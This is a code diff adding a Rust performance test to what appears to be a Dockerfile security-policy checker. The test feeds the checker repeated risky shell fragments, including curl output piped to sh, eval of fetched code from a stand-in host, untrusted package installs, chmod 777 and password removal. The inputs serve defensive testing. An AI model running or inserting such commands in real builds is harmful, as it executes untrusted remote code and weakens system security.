@@ -30,3 +30,36 @@ pub fn calls_of<'v>(run: &'v Run<'_>) -> impl Iterator<Item = (usize, Call<'v>)>
     let commands = run.script.commands.iter().enumerate();
     commands.filter_map(|(index, command)| Some((index, command.call()?)))
 }
+
+#[cfg(test)]
+mod tests {
+    use crate::dockerfile::Dockerfile;
+    use crate::policy::{Settings, check};
+
+    /// Large files of one kind, in a step and as steps: quick, and no panic.
+    #[test]
+    fn hostile_files_take_linear_time() {
+        for piece in [
+            "curl -k -o x http://e.com/x; ",
+            "curl http://e.com/x | sh; ",
+            "eval \"$(curl http://e.com)\"; ",
+            "apt-get update; ",
+            "apt-get install gcc gdb sudo; apk add x; yum install x; ",
+            "apk add --allow-untrusted ./x.apk; ",
+            "pip install x; ",
+            "chmod 777 /x; ",
+            "passwd -d x; echo a:b | chpasswd; ",
+            "bash -c 'a | b'; ",
+            "a | ",
+            "a & ",
+            "ssh-keyscan e.com >> known_hosts; ",
+        ] {
+            let step = format!("FROM a\nRUN {}\n", piece.repeat(4_000));
+            let lines = format!("FROM a\nRUN {}\n", format!("{piece}\\\n").repeat(4_000));
+            let steps = format!("FROM a\nCMD {piece}\n{}", format!("RUN {piece}\n").repeat(2_000));
+            for text in [step, lines, steps] {
+                check(&Dockerfile::parse(text.as_bytes()), &Settings::default(), |_| true);
+            }
+        }
+    }
+}
